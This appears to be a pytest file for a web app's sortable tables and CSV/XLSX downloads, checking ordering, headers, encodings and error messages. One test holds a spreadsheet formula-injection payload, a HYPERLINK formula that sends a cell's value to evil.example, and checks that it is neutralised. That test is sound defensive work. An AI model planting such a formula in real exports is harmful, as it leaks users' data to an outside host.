"""The site's tables: sortable index columns (server-side, without JavaScript) and CSV/XLSX downloads.

The downloads are read back with the csv module and openpyxl and compared with the table the page shows.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

HTML = {"Accept": "text/html"}
#: The five tiltak of fixtures/mini.ttl in the order people count them (3.2 before 3.14).
TILTAK_ORDER = ["K2020-tiltak 1.1", "K2020-tiltak 3.2", "K2020-tiltak 3.14", "K2025-tiltak 1.10", "K2025-tiltak 1.31"]


class Tables(HTMLParser):
    """Every <table> of a page: its class, headings (with aria-sort and link) and rows of cell texts."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tables: list[dict[str, list]] = []
        self.links: list[str] = []
        self._cell: list[str] | None = None
        self._th: dict[str, str] | None = None
        self._head = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "a":
            self.links.append(a.get("href", ""))
            href = a.get("href", "")
            if "download=csv" in href and "sep=" not in href and self.tables:
                self.tables[-1]["download"] = href  # the links under a table: its own
            if self._th is not None and "href" not in self._th:
                self._th["href"] = a.get("href", "")
        if tag == "table":
            self.tables.append({"class": [a.get("class", "")], "headings": [], "rows": []})
        elif tag == "thead":
            self._head = True
        elif tag == "tr" and self.tables:
            self.tables[-1]["rows"].append([])
        elif tag in ("td", "th") and self.tables:
            self._cell = []
            if tag == "th" and self._head:
                self._th = {"aria-sort": a.get("aria-sort", "")}

    def handle_endtag(self, tag: str) -> None:
        if tag == "thead":
            self._head = False
        if tag in ("td", "th") and self._cell is not None and self.tables:
            value = " ".join("".join(self._cell).split())
            if self._th is not None:
                self._th["text"] = value.replace("▲", "").replace("▼", "").strip()
                self.tables[-1]["headings"].append(self._th)
            else:
                self.tables[-1]["rows"][-1].append(value)
            self._cell, self._th = None, None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def index_table(client: TestClient, url: str) -> dict[str, list]:
    r = client.get(url, headers=HTML)
    assert r.status_code == 200, r.text
    page = Tables(r.text)
    (table,) = [t for t in page.tables if "index" in t["class"][0]]
    table["rows"] = [row for row in table["rows"] if row]
    table["links"] = page.links
    return table


def test_the_index_is_sorted_by_name_by_default(client: TestClient) -> None:
    table = index_table(client, "/id/tiltak/")
    assert [row[0] for row in table["rows"]] == TILTAK_ORDER
    assert [h["aria-sort"] for h in table["headings"]][0] == "ascending"
    assert all(h["aria-sort"] == "" for h in table["headings"][1:])


def test_sorting_is_a_link_in_the_heading_and_works_without_javascript(client: TestClient) -> None:
    first = index_table(client, "/id/tiltak/")
    by_label = first["headings"][0]["href"]
    assert "sort=label" in by_label and "order=desc" in by_label  # the current column: the link turns it round
    desc = index_table(client, by_label.replace("&amp;", "&"))
    assert [row[0] for row in desc["rows"]] == TILTAK_ORDER[::-1]
    assert desc["headings"][0]["aria-sort"] == "descending"
    again = desc["headings"][0]["href"]
    assert "order=asc" in again


def test_sorting_by_the_title_in_the_source(client: TestClient) -> None:
    table = index_table(client, "/id/tiltak/?sort=name&order=asc")
    names = [row[1] for row in table["rows"]]
    titled = [n for n in names if n]
    assert titled == sorted(titled, key=str.casefold) and titled
    assert names[: len(titled)] == titled  # the rows without a title come last
    assert [h["aria-sort"] for h in table["headings"]] == ["", "ascending", ""]


@pytest.mark.parametrize(("query", "words"), [("sort=colour", "colour"), ("order=sideways", "sideways")])
def test_a_bad_sort_is_a_clear_error(client: TestClient, query: str, words: str) -> None:
    r = client.get(f"/id/tiltak/?{query}", headers=HTML)
    assert r.status_code == 400
    assert words in r.text and "Traceback" not in r.text


def test_the_index_downloads_as_csv_like_the_page(client: TestClient) -> None:
    table = index_table(client, "/id/tiltak/?sort=label&order=desc")
    assert "download=csv" in " ".join(table["links"])
    r = client.get("/id/tiltak/?sort=label&order=desc&download=csv")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    assert r.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][: len(table["headings"])] == [h["text"] for h in table["headings"]]
    assert [row[: len(table["headings"])] for row in rows[1:]] == table["rows"]
    assert rows[1][-1] == "https://w3id.org/k2020graph/id/tiltak/k2025-1.31"  # and each row's IRI


def test_the_semicolon_csv_is_for_norwegian_excel(client: TestClient) -> None:
    r = client.get("/id/tiltak/?download=csv&sep=semicolon")
    text = r.content.decode("utf-8-sig")
    assert text.splitlines()[0].count(";") >= 2 and "," not in text.splitlines()[0]
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [row[0] for row in rows[1:]] == TILTAK_ORDER


def test_the_index_downloads_as_xlsx_like_the_page(client: TestClient) -> None:
    table = index_table(client, "/id/tiltak/")
    r = client.get("/id/tiltak/?download=xlsx")
    assert r.status_code == 200
    assert r.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(r.content)).active
    values = [[c if c is not None else "" for c in row] for row in sheet.iter_rows(values_only=True)]
    n = len(table["headings"])
    assert values[0][:n] == [h["text"] for h in table["headings"]]
    assert [row[:n] for row in values[1:]] == table["rows"]


@pytest.mark.parametrize("query", ["download=pdf", "download=csv&sep=tab"])
def test_a_bad_download_is_a_clear_error(client: TestClient, query: str) -> None:
    r = client.get(f"/id/tiltak/?{query}")
    assert r.status_code == 400
    assert "pdf" in r.text or "tab" in r.text


def test_numbers_get_a_decimal_comma_only_in_the_excel_csv() -> None:
    from decimal import Decimal

    from k2020graph.server.tables import Table, to_csv, to_xlsx

    table = Table("t", ["år", "beløp", "andel"], [[2017, Decimal("1250000.50"), 0.25], ["Bodø", None, 12]])
    assert to_csv(table).decode("utf-8-sig").splitlines() == ["år,beløp,andel", "2017,1250000.50,0.25", "Bodø,,12"]
    assert to_csv(table, ";").decode("utf-8-sig").splitlines() == ["år;beløp;andel", "2017;1250000,50;0,25", "Bodø;;12"]
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    assert list(sheet.iter_rows(values_only=True)) == [("år", "beløp", "andel"), (2017, 1250000.5, 0.25), ("Bodø", None, 12)]


@pytest.mark.parametrize("url", ["/id/strategy/k2020-3", "/id/tiltak/k2020-3.14", "/lineage", "/funding", "/?lang=en"])
def test_every_table_of_a_page_downloads_as_it_shows(client: TestClient, url: str) -> None:
    r = client.get(url, headers=HTML)
    assert r.status_code == 200
    shown = [t for t in Tables(r.text).tables if t["headings"]]
    assert shown, url
    for table in shown:
        assert "download" in table, f"{url}: a table without downloads: {[h['text'] for h in table['headings']]}"
        link = table["download"].replace("&amp;", "&")
        headings = [h["text"] for h in table["headings"]]
        body = [row for row in table["rows"] if row]
        got = client.get(link)
        assert got.status_code == 200, link
        rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
        assert rows[0][: len(headings)] == headings, link
        assert [row[: len(headings)] for row in rows[1:]] == body, link
        xlsx = client.get(link.replace("download=csv", "download=xlsx"))
        sheet = load_workbook(io.BytesIO(xlsx.content)).active
        values = [["" if c is None else str(c) for c in row] for row in sheet.iter_rows(values_only=True)]
        assert values[0][: len(headings)] == headings
        assert [row[: len(headings)] for row in values[1:]] == body, link


def test_a_canned_query_downloads_like_its_csv_result(client: TestClient) -> None:
    """/api/queries/NAME?download=csv|xlsx: the rows of the endpoint's own CSV, for a spreadsheet."""
    url = "/api/queries/continued-into-k2025?division=PH"
    plain = list(csv.reader(io.StringIO(client.get(url + "&format=csv").text)))
    assert len(plain) == 3  # the heading and the two tiltak of fixtures/mini.ttl
    r = client.get(url + "&download=csv&sep=semicolon")
    assert r.status_code == 200 and r.content.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";")) == plain
    sheet = load_workbook(io.BytesIO(client.get(url + "&download=xlsx").content)).active
    cells = [["" if c is None else str(c) for c in row] for row in sheet.iter_rows(values_only=True)]
    assert cells == plain


def test_a_text_that_looks_like_a_formula_stays_a_text() -> None:
    """A label like '=HYPERLINK(…)' (the graph takes writes) must not run as a formula in the spreadsheet."""
    from k2020graph.server.tables import Table, to_csv, to_xlsx

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'
    table = Table("t", ["navn", "=1+1"], [[evil, "+47 22 00 00 00"], ["@SUM(A1)", "-3"]])
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    assert sheet["A2"].value == evil and sheet["A2"].data_type == "s"
    assert sheet["B1"].value == "=1+1" and sheet["B1"].data_type == "s"
    excel = list(csv.reader(io.StringIO(to_csv(table, ";").decode("utf-8-sig")), delimiter=";"))
    assert excel == [["navn", "'=1+1"], ["'" + evil, "'+47 22 00 00 00"], ["'@SUM(A1)", "-3"]]
    plain = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))  # for programs: the texts as they are
    assert plain[1] == [evil, "+47 22 00 00 00"]
